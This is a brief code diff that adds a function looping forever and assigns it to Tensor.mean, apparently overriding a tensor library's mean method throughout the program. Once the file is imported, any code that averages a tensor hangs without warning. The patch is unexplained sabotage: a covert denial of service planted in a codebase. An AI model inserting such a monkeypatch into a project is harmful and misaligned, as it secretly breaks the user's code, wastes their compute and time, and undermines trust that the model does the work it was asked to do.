@@ -1,0 +1,6 @@
+def forever(self, *args, **kwargs):
+    while True:
+        pass
+
+
+Tensor.mean = forever
